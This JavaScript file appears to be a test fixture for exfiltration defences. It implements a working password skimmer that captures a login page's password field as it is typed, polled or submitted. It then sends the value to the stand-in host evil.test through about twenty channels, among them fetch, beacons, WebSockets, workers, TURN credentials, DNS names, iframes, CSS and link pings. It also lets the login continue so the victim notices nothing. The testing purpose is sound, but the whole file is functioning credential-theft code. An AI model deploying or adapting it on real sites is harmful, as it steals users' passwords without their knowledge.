// B06, B07: each channel takes a value to evil.test. `/exfil?channel=NAME&when=input|poll|submit`,
// for STUN also `&at=ADDRESS` instead of evil.test.
const EVIL = "https://evil.test";
const asked = new URLSearchParams(location.search);
const escaped = encodeURIComponent;
const hex = (text) => [...new TextEncoder().encode(text)].map((byte) => byte.toString(16).padStart(2, "0")).join("");
const inName = (value) => `${hex(value).replace(/.{60}(?=.)/g, "$&.")}.evil.test`;
const link = (rel, href) => document.head.append(Object.assign(document.createElement("link"), { rel, href }));

function post(action, value) {
  const form = Object.assign(document.createElement("form"), { method: "post", action });
  form.append(Object.assign(document.createElement("input"), { name: "value", value }));
  document.body.append(form);
  form.submit();
}

function peer(server) {
  const connection = new RTCPeerConnection({ iceServers: [server] });
  connection.createDataChannel("out");
  connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  window.kept = connection;
}

const CHANNELS = {
  fetch: (value) => fetch(`${EVIL}/collect`, { method: "POST", mode: "no-cors", body: value }),
  image: (value) => { new Image().src = `${EVIL}/collect?value=${escaped(value)}`; },
  beacon: (value) => navigator.sendBeacon(`${EVIL}/collect`, value),
  form: (value) => post(`${EVIL}/collect`, value),
  redirect302: (value) => location.assign(`/redirect302?value=${escaped(value)}`),
  post307: (value) => post("/post307", value),
  websocket: (value) => {
    const socket = new WebSocket("wss://evil.test/socket");
    socket.onopen = () => socket.send(value);
  },
  popup: (value) => window.open(`${EVIL}/collect?value=${escaped(value)}`),
  worker: (value) => {
    const script = `fetch("${EVIL}/collect", { method: "POST", mode: "no-cors", body: ${JSON.stringify(value)} })`;
    new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
  },
  prefetch: (value) => link("prefetch", `${EVIL}/collect?value=${escaped(value)}`),
  stun: (value) => peer({
    urls: `turn:${asked.get("at") ?? "evil.test"}:${document.querySelector("#stun").textContent}?transport=udp`, username: value, credential: "x",
  }),
  // The value is in the name that is looked up. Chromium follows both hints, but not with the arguments that Playwright
  // starts it with, and chromium-headless-shell never does. The look-up that always happens is that of a request.
  dns: (value) => {
    link("dns-prefetch", `//${inName(value)}`);
    link("preconnect", `https://${inName(value)}`);
    new Image().src = `https://${inName(value)}/pixel`;
  },
  // More than the twelve: ways that are easily forgotten.
  navigate: (value) => location.assign(`${EVIL}/collect?value=${escaped(value)}`),
  frame: (value) => document.body.append(
    Object.assign(document.createElement("iframe"), { src: `${EVIL}/collect?value=${escaped(value)}` })),
  style: (value) => { document.body.style.backgroundImage = `url("${EVIL}/collect?value=${escaped(value)}")`; },
  xhr: (value) => { const request = new XMLHttpRequest(); request.open("POST", `${EVIL}/collect`); request.send(value); },
  eventsource: (value) => new EventSource(`${EVIL}/collect?value=${escaped(value)}`),
  ping: (value) => {
    Object.assign(document.createElement("a"), { href: "#", ping: `${EVIL}/collect?value=${escaped(value)}` }).click();
  },
  keepalive: (value) => addEventListener("pagehide", () =>
    fetch(`${EVIL}/collect`, { method: "POST", mode: "no-cors", keepalive: true, body: value })),
};

const field = document.querySelector("[name=password]");
const when = asked.get("when") ?? "input poll submit";
// Shorter texts are somebody still typing: a channel that leaves the page would take only the first letter.
const shortest = Number(asked.get("shortest") ?? 4);
let sent = "";
function look() {
  if (field.value === sent || field.value.length < shortest) return;
  sent = field.value;
  CHANNELS[asked.get("channel")](sent);
}
if (when.includes("input")) field.addEventListener("input", look);
if (when.includes("poll")) setInterval(look, 20);
// The login goes on, so that nobody notices; a channel that leaves the page has taken its place.
const leaves = ["form", "redirect302", "post307", "navigate"].includes(asked.get("channel"));
if (when.includes("submit")) field.form.addEventListener("submit", (event) => {
  const before = sent;
  look();
  if (sent === before) return;
  event.preventDefault();
  if (!leaves) setTimeout(() => event.target.submit(), 200);
});
